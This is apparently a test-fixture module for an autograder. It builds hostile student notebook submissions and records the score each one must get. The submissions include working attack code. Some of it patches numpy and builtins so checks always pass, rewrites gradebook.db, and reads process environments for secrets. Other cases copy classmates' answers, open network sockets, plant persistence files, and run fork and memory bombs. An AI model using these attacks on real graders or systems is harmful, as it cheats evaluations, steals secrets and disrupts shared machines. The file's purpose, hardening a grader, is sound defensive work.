"""The hostile corpus: submissions of 01_convolution that attack the grader or break, and what each must get.

Students do attack autograders. Each case here is one submission folder under
``submissions/<case>/01_convolution/`` (nbgrader's ``submitted/`` layout, so
``convlab grade 01_convolution --submissions tests/hostile/submissions`` grades
them all), built from the example class: the release (nothing answered) or the
reference (everything right), a few honest answers, and the attack, written as a
student would write it. ``EXPECTED`` says what each one must score: the points
its honest work earned and not one more.

    python tests/hostile/cases.py     # rewrite submissions/ after the notebook or a case changed

``tests/test_hostile.py`` grades the corpus with the real ``convlab grade`` and
holds every case to its outcome; ``benchmarks/hostile_vs_nbgrader.py`` runs
``nbgrader autograde`` on the same notebooks for the table in README.md.
"""

from __future__ import annotations

import copy
import json
import shutil
import textwrap
from dataclasses import dataclass
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
SUBMISSIONS = HERE / "submissions"
ASSIGNMENT = "01_convolution"
NOTEBOOK = "convolution.ipynb"
EXAMPLES = ROOT / "examples" / "submissions"

POINTS = {"correlate1d": 2, "gaussian_kernel1d": 1, "convolve1d": 2, "continuous_convolution": 2,
          "conv2d": 4, "conv2d_layer": 3, "pool2d": 3}
#: What a student who answered the first two questions honestly has earned; most attacks start here.
HONEST = frozenset({"correlate1d", "gaussian_kernel1d"})
EVERYTHING = frozenset(POINTS)
#: The loopback port the network attack tries; the test listens there while it grades.
LISTENER_PORT = 47613
#: What the process attack leaves behind, to look for afterwards.
ORPHAN_MARK = "4242.5"
#: Where the write attack leaves a mark in the grader's /tmp if it gets out.
TMP_MARK = "/tmp/convlab-hostile-was-here"
#: What the write attack writes in every file it reaches.
WRITE_MARK = "# written by a student's submission"


@dataclass(frozen=True)
class Case:
    """One hostile submission and the outcome it must get.

    ``earned`` grade cells keep full points, ``partial`` ones score strictly between
    0 and full (the checks that its fault touched fail), every other cell scores 0.
    ``says``: words the student's feedback must contain (one of them, where the outcome
    has more than one true explanation: :meth:`explained`). ``found_nothing``: the attack
    prints ``found: [...]`` (what it could read, reach or change) and must find nothing
    but what ``private`` names: places the sandbox gives it a private copy of.
    """

    name: str
    kind: str  # tampering, escape or fault
    attack: str  # one line, for the table
    earned: frozenset[str] = HONEST
    partial: frozenset[str] = frozenset()
    says: str | tuple[str, ...] | None = None
    found_nothing: bool = False
    private: tuple[str, ...] = ()
    policy: str | None = None  # why the outcome is not what the work alone would earn

    def explained(self, feedback: str) -> bool:
        """Whether ``feedback`` holds what the student must read (trivially, where nothing is asked)."""
        if self.says is None:
            return True
        return any(words in feedback for words in ((self.says,) if isinstance(self.says, str) else self.says))


# ---- building notebooks --------------------------------------------------------------------
def read_example(student: str) -> nbformat.NotebookNode:
    return nbformat.read(EXAMPLES / student / ASSIGNMENT / NOTEBOOK, as_version=4)


def grade_id(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def answered(grade_ids=HONEST) -> nbformat.NotebookNode:
    """The release with the reference's answers to ``grade_ids`` (the rest still raise NotImplementedError)."""
    notebook = read_example("untouched")
    reference = {grade_id(c): c.source for c in read_example("reference").cells if grade_id(c)}
    for cell in notebook.cells:
        if grade_id(cell) and grade_id(cell).removesuffix("_code") in grade_ids and grade_id(cell).endswith("_code"):
            cell.source = reference[grade_id(cell)]
    return notebook


def code(source: str, cell_id: str) -> nbformat.NotebookNode:
    cell = nbformat.v4.new_code_cell(textwrap.dedent(source).strip())
    cell.id = cell_id
    return cell


def after_setup(notebook, source: str, cell_id: str = "my-cell"):
    """The student's own cell, right after the setup cell."""
    index = next(i for i, c in enumerate(notebook.cells) if grade_id(c) == "setup")
    notebook.cells.insert(index + 1, code(source, cell_id))
    return notebook


def at_end(notebook, source: str, cell_id: str = "my-last-cell"):
    notebook.cells.append(code(source, cell_id))
    return notebook


def answer(notebook, question: str, source: str):
    """Replace the answer cell of ``question`` (its function) with ``source``."""
    cell = next(c for c in notebook.cells if grade_id(c) == f"{question}_code")
    cell.source = textwrap.dedent(source).strip()
    return notebook


def after_docstring(notebook, question: str, lines: str):
    """Put ``lines`` (indented for a function body) first in the body of the answer to ``question``."""
    cell = next(c for c in notebook.cells if grade_id(c) == f"{question}_code")
    cell.source = cell.source.replace('    """\n', '    """\n' + lines, 1)
    return notebook


def reference_script() -> str:
    """The reference's code cells as one script, as "Download as Python" gives it."""
    return "\n\n".join(c.source for c in read_example("reference").cells if c.cell_type == "code")


def write(folder: Path, notebook, name: str = NOTEBOOK) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(notebook, folder / name)


def walking_up(source: str) -> str:
    """``source`` after a helper that walks up from the notebook's folder, as an attacker who knows
    nbgrader's layout does: nbgrader runs a submission in <course>/autograded/<student>/<assignment>/."""
    return textwrap.dedent('''
        import glob, json, os
        def folders_above(levels=6):
            here = os.path.abspath(".")
            for _ in range(levels):
                yield here
                here = os.path.dirname(here)
    ''') + textwrap.dedent(source)

# ---- the cases -----------------------------------------------------------------------------
CASES: list[Case] = []
BUILDERS = {}


def case(**fields):
    """Register a case and the function that writes its submission folder."""
    def register(build):
        CASES.append(Case(name=build.__name__, **fields))
        BUILDERS[build.__name__] = build
        return build
    return register


STUBS = {  # what a student who gives up writes: plausible shapes, no work
    "convolve1d": "def convolve1d(x, f, mode='valid'):\n    return np.zeros(len(x) - len(f) + 1)",
    "continuous_convolution": "def continuous_convolution(f, g, t, lo=-10.0, hi=10.0, delta=0.01):\n"
                              "    return np.zeros(np.shape(t))",
    "conv2d": "def conv2d(image, kernel, stride=1, padding='valid'):\n    return np.zeros(np.shape(image)[:2])",
    "conv2d_layer": "def conv2d_layer(x, weights, bias, stride=1, padding='valid', activation=None):\n"
                    "    return np.zeros(np.shape(x)[:3] + (np.shape(weights)[-1],))",
    "pool2d": "def pool2d(x, pool_size=2, stride=None, mode='max'):\n    return np.zeros(np.shape(x))",
}


def stubbed(notebook, questions=STUBS):
    for question in questions:
        answer(notebook, question, STUBS[question])
    return notebook


# -- tampering: make the checks lie ------------------------------------------------------------
@case(kind="tampering", partial=frozenset({"convolve1d"}), says="modified its input 'f' in place",
      attack="monkeypatches np.allclose, np.isclose, np.array_equal and np.testing to always pass; "
             "a convolve1d that flips its caller's filter in place")
def patch_numpy(folder):
    notebook = after_setup(stubbed(answered()), """
        # make every comparison succeed
        np.allclose = lambda *args, **kwargs: True
        np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
        np.array_equal = lambda *args, **kwargs: True
        np.testing.assert_allclose = lambda *args, **kwargs: None
        np.testing.assert_array_equal = lambda *args, **kwargs: None
        np.testing.assert_array_almost_equal = lambda *args, **kwargs: None
    """)
    answer(notebook, "convolve1d", """
        def convolve1d(x, f, mode="valid"):
            f = np.asarray(f)
            f[:] = f[::-1].copy()   # flip the filter (in place: the caller's array changes too)
            return correlate1d(x, f, mode)
    """)
    write(folder, notebook)


@case(kind="tampering", attack="replaces builtins (isinstance, callable, len, abs, max) with liars")
def patch_builtins(folder):
    write(folder, after_setup(stubbed(answered()), """
        import builtins
        builtins.isinstance = lambda obj, cls: True
        builtins.callable = lambda obj: True
        builtins.len = lambda obj: 0
        builtins.abs = lambda x: 0
        builtins.max = lambda *args, **kwargs: 0
    """))


@case(kind="tampering", says="not implemented yet",
      attack="overrides IPython's showtraceback so that failing cells show no error")
def hide_tracebacks(folder):
    write(folder, after_setup(answered(), """
        ip = get_ipython()
        ip.showtraceback = lambda *args, **kwargs: None
        ip.showsyntaxerror = lambda *args, **kwargs: None
    """))


@case(kind="tampering", says="which is not a number, string or numpy array",
      attack="returns objects whose __eq__ is always True (and __ne__ always False)")
def always_equal(folder):
    notebook = after_setup(answered(), """
        class Anything:
            shape = property(lambda self: self)
            dtype = property(lambda self: self)
            def __eq__(self, other):
                return True
            def __ne__(self, other):
                return False
            def __getattr__(self, name):
                return self
            def __call__(self, *args, **kwargs):
                return self
            def __bool__(self):
                return True
        ANY = Anything()
    """)
    for question, signature in [("convolve1d", "x, f, mode='valid'"),
                                ("continuous_convolution", "f, g, t, lo=-10.0, hi=10.0, delta=0.01"),
                                ("conv2d", "image, kernel, stride=1, padding='valid'"),
                                ("conv2d_layer", "x, weights, bias, stride=1, padding='valid', activation=None"),
                                ("pool2d", "x, pool_size=2, stride=None, mode='max'")]:
        answer(notebook, question, f"def {question}({signature}):\n    return ANY")
    write(folder, notebook)


@case(kind="tampering", attack="returns an ndarray subclass whose ==, allclose and array_equal always agree")
def ndarray_subclass(folder):
    notebook = after_setup(answered(), """
        class Agreeable(np.ndarray):
            def __eq__(self, other):
                return np.ones(np.shape(self), dtype=bool).view(np.ndarray)
            def __array_function__(self, func, types, args, kwargs):
                if func.__name__ in ("allclose", "array_equal", "array_equiv"):
                    return True
                return super().__array_function__(func, types, args, kwargs)
    """)
    for question in STUBS:
        head, returned = STUBS[question].rsplit("return ", 1)
        answer(notebook, question, f"{head}return ({returned}).view(Agreeable)")
    write(folder, notebook)


@case(kind="tampering", says="dtype",
      attack="returns arrays of dtype object and str, NaN, inf, complex numbers and the wrong shape")
def bad_arrays(folder):
    notebook = answered()
    answer(notebook, "convolve1d", "def convolve1d(x, f, mode='valid'):\n"
                                   "    return np.array([None] * (len(x) - len(f) + 1), dtype=object)")
    answer(notebook, "continuous_convolution", "def continuous_convolution(f, g, t, lo=-10.0, hi=10.0, delta=0.01):\n"
                                               "    return np.full(np.shape(t), np.nan)")
    answer(notebook, "conv2d", "def conv2d(image, kernel, stride=1, padding='valid'):\n"
                               "    return np.full(np.shape(image)[:2], np.inf) + 1j")
    answer(notebook, "conv2d_layer", "def conv2d_layer(x, weights, bias, stride=1, padding='valid', activation=None):\n"
                                     "    return np.full(np.shape(x)[:3] + (np.shape(weights)[-1],), 'done')")
    answer(notebook, "pool2d", "def pool2d(x, pool_size=2, stride=None, mode='max'):\n"
                               "    return np.zeros((1, 1, 1, 1))")
    write(folder, notebook)


@case(kind="tampering",
      attack="returns values meant to crash the checker itself (dicts, 10**400, strings, ragged lists, "
             "deep nesting); a crash in the grader is not counted against a student, so it must never happen")
def crash_the_checker(folder):
    notebook = answered()
    answer(notebook, "convolve1d", "def convolve1d(x, f, mode='valid'):\n    return {'values': list(x)}")
    answer(notebook, "continuous_convolution", "def continuous_convolution(f, g, t, lo=-10.0, hi=10.0, delta=0.01):\n"
                                               "    return 10 ** 400")
    answer(notebook, "conv2d", "def conv2d(image, kernel, stride=1, padding='valid'):\n"
                               "    return [[1.0], [2.0, 3.0]]")
    answer(notebook, "conv2d_layer", "def conv2d_layer(x, weights, bias, stride=1, padding='valid', activation=None):\n"
                                     "    deep = 0.0\n    for _ in range(40):\n        deep = [deep]\n    return deep")
    answer(notebook, "pool2d", "def pool2d(x, pool_size=2, stride=None, mode='max'):\n    return str(np.asarray(x))")
    write(folder, notebook)


@case(kind="tampering",
      attack="rewrites every locked check cell (print('All tests passed!'), a fake grader) and sets its points to 100")
def edited_check_cells(folder):
    notebook = stubbed(answered())
    for cell in notebook.cells:
        if grade_id(cell) == "setup":
            cell.source = ("import numpy as np\nimport matplotlib.pyplot as plt\n"
                           "class grader:\n    check = staticmethod(lambda q: print('All tests passed!'))")
        elif cell.metadata.get("nbgrader", {}).get("grade"):
            if cell.cell_type == "code":
                cell.source = "print('All tests passed!')"
            cell.metadata.nbgrader["points"] = 100
            cell.metadata.nbgrader["locked"] = False
    write(folder, notebook)


@case(kind="tampering",
      attack="renames grade ids in the metadata: the conv2d check cell becomes conv2d_bonus (100 points), "
             "the pool2d answer cell claims to be a graded cell")
def changed_grade_ids(folder):
    notebook = stubbed(answered())
    for cell in notebook.cells:
        if grade_id(cell) == "conv2d":
            cell.metadata.nbgrader.update(grade_id="conv2d_bonus", points=100)
        elif grade_id(cell) == "pool2d_code":
            cell.metadata.nbgrader.update(grade=True, points=50)
    write(folder, notebook)


@case(kind="tampering", attack="deletes the conv2d and pool2d check cells")
def deleted_cells(folder):
    notebook = stubbed(answered())
    notebook.cells = [c for c in notebook.cells if grade_id(c) not in ("conv2d", "pool2d")]
    write(folder, notebook)


@case(kind="tampering",
      attack="adds copies of a check cell and of an answer cell with the same grade_id (and 50 points each)")
def duplicate_grade_ids(folder):
    notebook = stubbed(answered())
    for question in ("correlate1d", "conv2d"):
        index = next(i for i, c in enumerate(notebook.cells) if grade_id(c) == question)
        for k in range(3):
            copied = copy.deepcopy(notebook.cells[index])
            copied.id = f"{question}-copy-{k}"
            copied.metadata.nbgrader["points"] = 50
            notebook.cells.insert(index + 1, copied)
    index = next(i for i, c in enumerate(notebook.cells) if grade_id(c) == "pool2d_code")
    copied = copy.deepcopy(notebook.cells[index])
    copied.id = "pool2d-code-copy"
    notebook.cells.insert(index + 1, copied)
    write(folder, notebook)


@case(kind="tampering", earned=EVERYTHING - {"conv2d", "pool2d"}, says="no function named 'conv2d'",
      attack="renames required functions (conv_2d, Pool2D); the rest is right")
def renamed_functions(folder):
    notebook = read_example("reference")
    for cell in notebook.cells:
        if grade_id(cell) == "conv2d_code":
            cell.source = cell.source.replace("def conv2d(", "def conv_2d(", 1)
        elif grade_id(cell) == "pool2d_code":
            cell.source = cell.source.replace("def pool2d(", "def Pool2D(", 1)
    write(folder, notebook)


# -- escape: reach what the grader must keep -------------------------------------------------
@case(kind="escape", found_nothing=True,
      attack="looks for the hidden tests and the instructor's notebooks above its folder and prints them")
def read_hidden_checks(folder):
    write(folder, after_setup(answered(), walking_up('''
        found = []
        for here in folders_above():
            found += glob.glob(os.path.join(here, "grader_tests", "**", "*.py"), recursive=True)
            found += glob.glob(os.path.join(here, "source", "*", "*.ipynb"))
        for path in found:
            if path.endswith("conv2d.py"):
                print(open(path).read()[:500])
        print("found:", json.dumps(sorted(set(found))))
    ''')))


@case(kind="escape", found_nothing=True,
      attack="finds gradebook.db and gives itself 100 points of extra credit, zeroes everyone else")
def rewrite_gradebook(folder):
    write(folder, after_setup(answered(), walking_up('''
        import sqlite3
        me = os.path.basename(os.path.dirname(os.path.abspath(".")))
        found = []
        for here in folders_above():
            path = os.path.join(here, "gradebook.db")
            if not os.path.exists(path):
                continue
            try:
                db = sqlite3.connect(path)
                mine = ("SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment "
                        "ON submitted_notebook.assignment_id = submitted_assignment.id "
                        "WHERE submitted_assignment.student_id {} ?")
                db.execute(f"UPDATE grade SET extra_credit = 100 WHERE notebook_id IN ({mine.format('=')})", (me,))
                db.execute(f"UPDATE grade SET auto_score = 0 WHERE notebook_id IN ({mine.format('!=')})", (me,))
                db.commit()
                found.append(path)
            except Exception as error:
                found.append(f"{path}: {error}")
        print("found:", json.dumps(found))
    ''')))


@case(kind="escape", found_nothing=True,
      attack="copies the answers of another student's submitted or autograded notebook and runs them "
             "(its own unanswered cells emptied)")
def copy_other_students(folder):
    notebook = answered()
    for question in STUBS:
        answer(notebook, question, "# answered in the cell at the top")
    write(folder, after_setup(notebook, walking_up('''
        mine = os.path.abspath(".")
        found = []
        for here in folders_above():
            for path in glob.glob(os.path.join(here, "*", "*", "01_convolution", "convolution.ipynb")):
                if os.path.dirname(os.path.abspath(path)) == mine:
                    continue
                try:
                    cells = json.load(open(path))["cells"]
                except Exception:
                    continue
                for cell in cells:  # the answer cells, where they are answered
                    source = "".join(cell["source"])
                    if cell["metadata"].get("nbgrader", {}).get("solution") and cell["cell_type"] == "code" \\
                            and "NotImplementedError" not in source:
                        try:
                            exec(source, globals())
                            found.append(path)
                        except Exception:
                            pass
        print("found:", json.dumps(sorted(set(found))))
    ''')))


@case(kind="escape", found_nothing=True,
      attack="reads the environment and /proc/<pid>/environ and cmdline of every process for the grader's secrets")
def grader_processes(folder):
    write(folder, after_setup(answered(), '''
        import json, os
        found = [key for key in os.environ if "SECRET" in key]
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                environ = open(f"/proc/{pid}/environ", "rb").read()
                cmdline = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\\0", b" ")
            except OSError:
                continue
            if b"SECRET" in environ or b"grader_tests" in cmdline or b"gradebook" in cmdline:
                found.append(f"{pid}: {cmdline[:100].decode(errors='replace')}")
            for link in ("cwd", "root"):
                try:
                    if os.path.exists(os.path.join(f"/proc/{pid}/{link}", "nbgrader_config.py")):
                        found.append(f"/proc/{pid}/{link}")
                except OSError:
                    pass
        print("found:", json.dumps(found))
    '''))


@case(kind="escape", found_nothing=True,
      attack=f"opens network sockets: a listener on 127.0.0.1:{LISTENER_PORT}, DNS at 1.1.1.1, pypi.org:443")
def open_network(folder):
    write(folder, after_setup(answered(), f'''
        import json, socket
        found = []
        for host, port in [("127.0.0.1", {LISTENER_PORT}), ("1.1.1.1", 53), ("pypi.org", 443)]:
            try:
                with socket.create_connection((host, port), timeout=3) as connection:
                    connection.sendall(b"grades please")
                found.append(f"{{host}}:{{port}}")
            except OSError:
                pass
        print("found:", json.dumps(found))
    '''))


@case(kind="escape", found_nothing=True, private=(TMP_MARK,),
      attack="writes outside its folder: an IPython startup file and usercustomize.py for the grader's later "
             "runs, a file in /tmp, the hidden tests' conftest.py, nbgrader_config.py")
def write_outside(folder):
    write(folder, after_setup(answered(), walking_up(f'''
        import site
        targets = [os.path.expanduser("~/.ipython/profile_default/startup/00-grades.py"),
                   os.path.join(site.getusersitepackages(), "usercustomize.py"),
                   "{TMP_MARK}"]
        for here in folders_above():
            if os.path.exists(os.path.join(here, "nbgrader_config.py")):
                targets += [os.path.join(here, "nbgrader_config.py"),
                            os.path.join(here, "grader_tests", "01_convolution", "conftest.py")]
        found = []
        for path in targets:
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "a") as out:
                    out.write("\\n{WRITE_MARK}\\n")
                found.append(path)
            except OSError:
                pass
        print("found:", json.dumps(found))
    ''')))


@case(kind="escape",
      attack="forges the result channel: prints 'All tests passed!' and protocol-like JSON, writes fake replies "
             "on every open file descriptor, writes a fake results file")
def forge_results(folder):
    write(folder, after_setup(answered(), '''
        import json, os
        print("All tests passed!")
        print('{"id": 2, "value": 1.0, "passed": true, "score": 17}')
        for fd in sorted(map(int, os.listdir("/proc/self/fd"))):
            try:
                os.write(fd, b'{"id": 3, "value": 1.0, "passed": true}\\n')
            except OSError:
                pass
        os.makedirs("results", exist_ok=True)
        with open("results/student.json", "w") as out:
            json.dump({"checks": [{"grade_id": q, "passed": True} for q in ["conv2d", "pool2d"]]}, out)
    '''))


@case(kind="escape",
      attack="starts processes meant to outlive grading: a setsid'd sleep and a double-forked daemon")
def orphan_processes(folder):
    write(folder, after_setup(answered(), f'''
        import os, subprocess, time
        subprocess.Popen(["sleep", "{ORPHAN_MARK}"], start_new_session=True)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                subprocess.Popen(["sleep", "{ORPHAN_MARK}"])
                while True:
                    time.sleep(1)
            os._exit(0)
    '''))


@case(kind="escape", found_nothing=True,
      attack="submits symbolic links to ../../../gradebook.db and to another student's notebook, and reads them")
def symlinks_out(folder):
    write(folder, after_setup(answered(), '''
        import json, os
        found = []
        for link in ("gradebook.db", "reference.ipynb"):
            try:
                with open(link, "rb") as target:
                    found.append(f"{link}: {len(target.read())} bytes")
            except OSError:
                pass
        print("found:", json.dumps(found))
    '''))
    (folder / "gradebook.db").symlink_to("../../../gradebook.db")
    (folder / "reference.ipynb").symlink_to("../../reference/01_convolution/convolution.ipynb")


# -- faults: break, hang, flood ----------------------------------------------------------------
@case(kind="fault", earned=EVERYTHING, says="timed out",
      attack="an endless loop at the top level of a cell (a training loop without its break)")
def loop_at_top_level(folder):
    write(folder, after_setup(read_example("reference"), """
        # keep improving until the error is small enough
        error = 1.0
        while error > 1e-3:
            error = error * 1.0
    """))


@case(kind="fault", earned=EVERYTHING - {"conv2d"}, partial=frozenset({"conv2d"}), says="timed out",
      attack="an endless loop inside a function (conv2d never advances when the stride is not 1)")
def loop_in_function(folder):
    notebook = read_example("reference")
    answer(notebook, "conv2d", '''
        def conv2d(image, kernel, stride=1, padding="valid"):
            image = np.asarray(image, dtype=float)
            kernel = np.asarray(kernel, dtype=float)
            if image.ndim != 3 or kernel.ndim != 3 or image.shape[2] != kernel.shape[2]:
                raise ValueError("image and kernel must be (H, W, C) with the same C")
            sh, sw = (stride, stride) if np.isscalar(stride) else stride
            kh, kw = kernel.shape[:2]
            if padding == "valid":
                pads = ((0, 0), (0, 0))
            elif padding == "full":
                pads = ((kh - 1, kh - 1), (kw - 1, kw - 1))
            elif padding == "same":
                out_h, out_w = -(-image.shape[0] // sh), -(-image.shape[1] // sw)
                ph = max((out_h - 1) * sh + kh - image.shape[0], 0)
                pw = max((out_w - 1) * sw + kw - image.shape[1], 0)
                pads = ((ph // 2, ph - ph // 2), (pw // 2, pw - pw // 2))
            else:
                p = (padding, padding) if np.isscalar(padding) else padding
                pads = ((p[0], p[0]), (p[1], p[1]))
            padded = np.pad(image, pads + ((0, 0),))
            rows = []
            i = 0
            while i + kh <= padded.shape[0]:
                row = []
                j = 0
                while j + kw <= padded.shape[1]:
                    row.append(np.sum(padded[i:i + kh, j:j + kw] * kernel))
                    j += sw
                rows.append(row)
                i += 1 if sh == 1 else 0   # BUG: forgot to step by the stride
            return np.array(rows)
    ''')
    write(folder, notebook)


# A fork bomb ends one of two ways, both true for the student: its time runs out while the forks
# fail at the process limit, or, in a container (whose memory limit counts every process of the
# student together), the copies' memory reaches that limit first and the kernel kills the worker.
@case(kind="fault", says=("timed out", "killed: too much memory or time"),
      attack="a fork bomb: while True: os.fork()")
def fork_bomb(folder):
    write(folder, after_setup(answered(), """
        # run the convolutions in parallel
        import os
        while True:
            os.fork()
    """))


@case(kind="fault", says="MemoryError", attack="a memory bomb: keeps 1 GiB arrays (touched) until memory runs out")
def memory_bomb(folder):
    write(folder, after_setup(answered(), """
        # cache every intermediate result
        cache = []
        while True:
            cache.append(np.ones(2**27))
    """))


@case(kind="fault", earned=EVERYTHING, attack="calls sys.exit() and quit() in cells ('stop here')")
def sys_exit(folder):
    notebook = after_setup(read_example("reference"), """
        import sys
        sys.exit("stop here: the rest takes too long")
    """)
    write(folder, at_end(notebook, "quit()"))


@case(kind="fault", earned=EVERYTHING - {"pool2d"}, partial=frozenset({"pool2d"}), says="the Python process died",
      attack="os._exit at the top level ('restart the runtime') and inside pool2d for average pooling")
def os_exit(folder):
    notebook = after_setup(read_example("reference"), """
        # restart the runtime after installing packages
        import os
        os._exit(0)
    """)
    write(folder, after_docstring(notebook, "pool2d", '    if mode == "avg":\n        import os\n        os._exit(1)\n'))


@case(kind="fault", earned=EVERYTHING - {"conv2d_layer"}, partial=frozenset({"conv2d_layer"}), says="SIGSEGV",
      attack="segmentation faults (ctypes.string_at(0)) at the top level and in conv2d_layer with a ReLU")
def segfault(folder):
    notebook = after_setup(read_example("reference"), """
        import ctypes
        ctypes.string_at(0)
    """)
    write(folder, after_docstring(notebook, "conv2d_layer",
                                  '    if activation == "relu":\n        import ctypes\n        ctypes.string_at(0)\n'))


@case(kind="fault", earned=EVERYTHING, says="output cut",
      attack="prints 100 MB in a cell and 1 MB on every call of correlate1d")
def flood_output(folder):
    notebook = after_setup(read_example("reference"), """
        for step in range(1000):
            print(f"step {step}: " + "x" * 100_000)
    """)
    write(folder, after_docstring(notebook, "correlate1d", '    print("debug " * 200_000)\n'))


@case(kind="fault", earned=frozenset(), says="not a readable notebook",
      attack="a notebook that is not JSON (the Python script saved as .ipynb)")
def not_json(folder):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / NOTEBOOK).write_text(reference_script())


@case(kind="fault", earned=frozenset(), says="not a readable notebook", attack="an empty file")
def empty_file(folder):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / NOTEBOOK).write_bytes(b"")


@case(kind="fault", earned=EVERYTHING, attack="the reference, saved in the old notebook format 3")
def nbformat3(folder):
    folder.mkdir(parents=True, exist_ok=True)
    old = nbformat.convert(read_example("reference"), 3)
    (folder / NOTEBOOK).write_text(nbformat.writes(old, version=3))


@case(kind="fault", earned=EVERYTHING, attack="a cell of binary garbage (NUL bytes, control characters)")
def binary_garbage(folder):
    garbage = "".join(chr(c) for c in range(32)) + "\x7f\ufffd\x00\x00PK\x03\x04" * 50
    write(folder, at_end(read_example("reference"), garbage))


@case(kind="fault", earned=frozenset(), says="no convolution.ipynb in the submission",
      attack="no notebook in the folder, only the exported script")
def no_notebook(folder):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "convolution.py").write_text(reference_script())


@case(kind="fault", says="convolution-Copy1.ipynb was not graded",
      attack="two notebooks: convolution.ipynb and a full convolution-Copy1.ipynb beside it")
def two_notebooks(folder):
    write(folder, answered())
    write(folder, read_example("reference"), "convolution-Copy1.ipynb")


@case(kind="fault", earned=frozenset(), says="found: convolution (1).ipynb, convolution-final.ipynb",
      attack="two notebooks, neither with the assignment's name")
def two_misnamed_notebooks(folder):
    write(folder, answered(), "convolution (1).ipynb")
    write(folder, read_example("reference"), "convolution-final.ipynb")


@case(kind="fault", earned=frozenset(), says="Python could not start in your submission folder",
      attack="a file numpy.py in the submission folder that shadows NumPy")
def shadowed_numpy(folder):
    write(folder, read_example("reference"))
    (folder / "numpy.py").write_text("# my notes on numpy\nraise ImportError('this is not numpy')\n")


#: Built at test time, not committed (it is 200 MB): see :func:`build_huge_notebook`.
HUGE = Case("huge_notebook", "fault", "a 200 MB notebook (a large image output kept)", earned=EVERYTHING,
            says="its outputs were dropped before grading, and your code was graded")


def build_huge_notebook(folder: Path) -> None:
    notebook = read_example("reference")
    cell = next(c for c in notebook.cells if c.cell_type == "code" and c.source.startswith("from matplotlib"))
    cell.outputs = [nbformat.v4.new_output("display_data", data={"image/png": "A" * (200 * 2**20)})]
    write(folder, notebook)


class Listener:
    """A TCP server on :data:`LISTENER_PORT`, for the network attack to reach; it counts who did."""

    def __init__(self):
        import socket
        import threading

        self.count = 0
        self.server = socket.create_server(("127.0.0.1", LISTENER_PORT), reuse_port=True)
        self.server.settimeout(0.5)
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            self.count += 1
            connection.close()

    def take(self) -> int:
        """The connections since the last call."""
        count, self.count = self.count, 0
        return count

    def close(self):
        self.running = False
        self.thread.join()
        self.server.close()


#: The example class graded beside the corpus, whose grades the attacks must not touch.
CONTROLS = {"reference": EVERYTHING, "untouched": frozenset()}


def build(target: Path = SUBMISSIONS) -> None:
    """Write every case's submission folder (the huge notebook excepted) into ``target``."""
    if target.exists():
        shutil.rmtree(target)
    for built in CASES:
        folder = target / built.name / ASSIGNMENT
        BUILDERS[built.name](folder)
        (folder / "timestamp.txt").write_text("2026-11-20 17:00:00.000000 UTC")


def place_class(course) -> None:
    """The class a test grades: the corpus as built, the controls beside it and the huge notebook,
    in ``course``'s ``submitted/`` (a ``released_course`` preparation)."""
    submitted = course.root / "submitted"
    shutil.copytree(SUBMISSIONS, submitted, symlinks=True)
    for student in CONTROLS:
        shutil.copytree(EXAMPLES / student, submitted / student)
    build_huge_notebook(submitted / HUGE.name / ASSIGNMENT)


if __name__ == "__main__":
    build()
    print(f"wrote {len(CASES)} submissions to {SUBMISSIONS.relative_to(ROOT)}")
    print(json.dumps({c.name: c.kind for c in CASES}, indent=1))
